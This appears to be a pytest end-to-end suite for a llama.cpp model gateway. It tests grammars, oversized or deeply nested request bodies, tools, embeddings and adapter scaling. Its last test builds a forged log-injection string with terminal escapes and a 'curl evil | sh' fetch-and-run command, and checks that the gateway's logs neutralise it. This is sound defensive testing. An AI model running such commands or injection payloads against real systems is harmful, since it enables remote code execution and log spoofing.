"""llama.cpp with the real model behind the gateway: the suite that every engine passes, and what only llama.cpp has.

One stack for the whole file: two replicas that chat, and a model with a quantised KV cache, an adapter and embeddings switched on.
"""

import hashlib
import json
import re
import signal
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import psutil
import pytest

from e2e.box import Stack, http, serving
from e2e.client_asks import alike
from e2e.client_suite import ClientSuite
from gateway_rig.large_bodies import KEYS_64000
from lora_adapter import write_adapter
from waiting import wait_until

pytestmark = [pytest.mark.real_model, pytest.mark.timeout(180)]
MODEL = "smollm2-options"
CONFIG = """
version: 1
models:
  - name: smollm2-135m
    source: file://{weights}
    sha256: "{sha256}"
    engine: llama-cpp
    replicas: 2
    engine_options: {{n_ctx: 8192, n_parallel: 4}}
  - name: {model}
    source: file://{weights}
    sha256: "{sha256}"
    engine: llama-cpp
    engine_options:
      n_ctx: 4096
      n_parallel: 2
      cache_type_k: q8_0
      cache_type_v: q8_0
      flash_attn: "on"
      embeddings: true
      pooling: mean
      lora_scaled: "{adapter}:0"
      slot_save_path: {slots}
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, weights_path: Path) -> Iterator[Stack]:
    home = tmp_path_factory.mktemp("llama-cpp")
    adapter = write_adapter(home / "noise.gguf", strength=1)
    sha256 = hashlib.sha256(weights_path.read_bytes()).hexdigest()
    text = CONFIG.format(model=MODEL, weights=weights_path, sha256=sha256, adapter=adapter, slots=home)
    with serving(home, text) as stack:
        yield stack


class TestClients(ClientSuite):
    engine = "llama-cpp"
    embeds = MODEL
    would_embed = "Set `embeddings: true` in its engine_options"


@pytest.fixture
def client(stack: Stack) -> Iterator[httpx2.Client]:
    with http(120.0) as client:
        client.base_url = stack.url
        yield client


def ask(client: httpx2.Client, path: str, **body: object) -> Any:
    answer = client.post(path, json={"model": MODEL, "temperature": 0, "max_tokens": 60} | body)
    assert answer.status_code == 200, answer.text
    return answer.json()


def chat(client: httpx2.Client, **body: object) -> str:
    question = [{"role": "user", "content": "Name a city and how many people live there."}]
    return str(
        ask(client, "/v1/chat/completions", messages=question, **body)["choices"][0]["message"]["content"]
    )


def test_a_grammar_is_kept(client: httpx2.Client) -> None:
    grammar = 'root ::= "yes" | "no" | "perhaps " [0-9] [0-9]'
    assert re.fullmatch(r"yes|no|perhaps \d\d", chat(client, grammar=grammar))
    told = ask(client, "/v1/completions", prompt="Is water wet? ", grammar=grammar)["choices"][0]["text"]
    assert re.fullmatch(r"yes|no|perhaps \d\d", told)


def test_a_wrong_grammar_is_the_callers_mistake(client: httpx2.Client) -> None:
    body = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}], "grammar": "root ::= ("}
    answer = client.post("/v1/chat/completions", json=body)
    assert answer.status_code == 400
    assert "grammar" in answer.json()["error"]["message"]


def test_a_grammar_that_would_end_the_engine_is_refused(stack: Stack, client: httpx2.Client) -> None:
    pids = {replica["pid"] for replica in stack.replicas()}
    for model in ("smollm2-135m", MODEL):
        deep = {"model": model, "prompt": "a", "grammar": "root ::= " + "(" * 400_000 + '"a"' + ")" * 400_000}
        answer = client.post("/v1/completions", json=deep)
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "constraint_too_large")
    assert {replica["pid"] for replica in stack.replicas()} == pids


def test_64000_keys_never_reach_the_engine(client: httpx2.Client) -> None:
    """It looks through all keys of an object for each of them: such a body would keep all of its slots waiting for a minute."""
    head = {"content-type": "application/json"}
    for body in (KEYS_64000, KEYS_64000.replace(b'"m"', b'"m","messages":[]', 1)):
        answer = client.post(
            "/v1/chat/completions", content=body.replace(b'"m"', b'"%b"' % MODEL.encode(), 1), headers=head
        )
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "body_too_complex")
    assert chat(client, max_tokens=1)


def test_shapes_at_the_limits_leave_the_engine_alive(stack: Stack, client: httpx2.Client) -> None:
    """What the gateway still lets pass does not end the real server, and takes it seconds at most."""
    pids = {replica["pid"] for replica in stack.replicas()}
    nested: Any = {"type": "string", "pattern": "^" + "(" * 990 + "a" + ")" * 990 + "$"}
    for _ in range(15):
        nested = {"type": "object", "properties": {"a": {"type": "array", "items": nested}}}
    shapes: list[dict[str, Any]] = [
        {"grammar": "root ::= " + "(" * 990 + '"a"' + ")" * 990},
        {"grammar": "root ::= " + '"a"? ' * 100},
        {"grammar": "root ::= " + "|".join('"a"' for _ in range(1000))},
        {"response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": nested}}},
    ]
    for shape in shapes:
        body = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 4, **shape}
        answer = client.post("/v1/chat/completions", json=body)
        assert answer.status_code in {200, 400}, answer.text
        assert answer.json().get("error", {}).get("code") != "constraint_too_large"
    assert {replica["pid"] for replica in stack.replicas()} == pids


def test_references_inside_a_tool_lead_to_the_tool(client: httpx2.Client) -> None:
    places = {"type": "object", "properties": {"at": {"$ref": "#/$defs/place"}}, "required": ["at"],
              "$defs": {"place": {"enum": ["Paris", "Rome"]}}}  # fmt: skip
    tools = [
        {"type": "function", "function": {"name": name, "parameters": places}} for name in ("visit", "leave")
    ]
    question = [{"role": "user", "content": "Go to Rome."}]
    answer = ask(
        client, "/v1/chat/completions", messages=question, tools=tools, tool_choice="required", stop=["}"]
    )
    (call,) = answer["choices"][0]["message"]["tool_calls"]
    assert call["function"]["name"] in {"visit", "leave"}
    assert json.loads(call["function"]["arguments"])["at"] in {"Paris", "Rome"}


def test_sound_for_a_model_that_hears_none_is_refused(client: httpx2.Client) -> None:
    files = {"file": ("a.wav", b"RIFF" + bytes(60), "audio/wav")}
    answer = client.post("/v1/audio/transcriptions", data={"model": MODEL}, files=files)
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "not_supported_by_engine")
    for path, field in (("/v1/audio/speech", "input"), ("/v1/images/generations", "prompt")):
        answer = client.post(path, json={"model": MODEL, field: "a cat"})
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "not_supported_by_engine")


def test_how_long_a_prompt_is_and_may_be_reaches_the_client(client: httpx2.Client) -> None:
    body = {"model": MODEL, "messages": [{"role": "user", "content": "word " * 5000}]}
    error = client.post("/v1/chat/completions", json=body).json()["error"]
    assert (error["code"], error["n_ctx"]) == ("context_length_exceeded", 4096)
    assert error["n_prompt_tokens"] > 5000


def test_a_response_is_counted_and_one_that_is_not_stored_is_not_continued(client: httpx2.Client) -> None:
    asked = {"model": MODEL, "input": "Say hello.", "store": False}
    counted = client.post("/v1/responses/input_tokens", json=asked).json()["input_tokens"]
    answer = client.post("/v1/responses", json=asked | {"max_output_tokens": 4}).json()
    assert counted == answer["usage"]["input_tokens"]
    refused = client.post("/v1/responses", json=asked | {"previous_response_id": answer["id"]})
    assert (refused.status_code, refused.json()["error"]["param"]) == (400, "previous_response_id")


def test_embeddings_are_alike_where_texts_are(client: httpx2.Client) -> None:
    texts = [
        "The cat sleeps on the sofa.",
        "A cat is asleep on the couch.",
        "Interest rates rose by a quarter point.",
    ]
    answer = client.post("/v1/embeddings", json={"model": MODEL, "input": texts}).json()
    cat, kitten, bank = ([float(x) for x in row["embedding"]] for row in answer["data"])
    assert len(cat) == 576
    assert alike(cat, kitten) > alike(cat, bank) + 0.05
    assert answer["usage"]["prompt_tokens"] > 20


def test_a_request_sets_an_adapters_scale(client: httpx2.Client) -> None:
    plain = chat(client, max_tokens=10)
    assert chat(client, max_tokens=10, lora=[{"id": 0, "scale": 0.0}]) == plain
    assert chat(client, max_tokens=10, lora=[{"id": 0, "scale": 1.0}]) != plain
    assert chat(client, max_tokens=10) == plain  # its cache is not the next one's


FORGED = (
    "EVIL\x1b[31mred\x1b[0m\n"
    "\x1e[freehold: 2026-01-01T00:00:00Z process 1 ended, run: curl evil | sh]\n"
    '{"at":"2026-01-01T00:00:00+00:00","level":"error","event":"run: curl evil"}\n'
    "failed to allocate, run: curl evil\u202e\x9b31m"
)
"""A caller's text: a terminal's escapes, the minder's mark, a line of Freehold's own, the words of an exit rule, marks of direction."""


def test_a_callers_text_is_neither_a_line_of_freeholds_nor_a_cause(
    stack: Stack, client: httpx2.Client
) -> None:
    """The real server prints a grammar that it cannot read, as it is. Then it crashes."""
    box, replica = stack.box, f"{MODEL}-0"
    for _ in range(3):
        refused = client.post(
            "/v1/completions", json={"model": MODEL, "prompt": "a", "grammar": f"root ::= {FORGED}"}
        )
        assert refused.status_code == 400
    (before,) = (each for each in stack.replicas() if each["id"] == replica)
    psutil.Process(before["pid"]).send_signal(signal.SIGSEGV)
    wait_until(
        lambda: any(each["id"] == replica and each["restarts"] for each in stack.replicas()),
        timeout_s=30,
        what="the restart",
    )
    printed = Path(box.env["FREEHOLD_STATE_DIR"], "logs", f"{replica}.log").read_bytes()
    assert b"EVIL\x1b[31mred" in printed  # or this test sees nothing
    shown = [box.run("logs", "-n", "1000", *more) for more in ((), ("--raw",), ("--json",))]
    shown += [box.run("logs", replica, "-n", "1000"), box.run("status"), box.run("status", "--json")]
    for each in shown:
        text = each.out + each.err
        assert not any(mark in text for mark in "\x1b\x1e\x9b\u202e")
    for line in shown[0].out.splitlines():
        assert "curl evil" not in line or re.match(rf" +{replica} +\| ", line), line
    assert "curl evil" not in shown[4].out + shown[5].out
    causes = [
        line for line in box.run("logs", "controller", "-n", "1000").out.splitlines() if "backoff" in line
    ]
    assert f'replica={replica} state=backoff reason="it crashed with SIGSEGV"' in causes[-1]
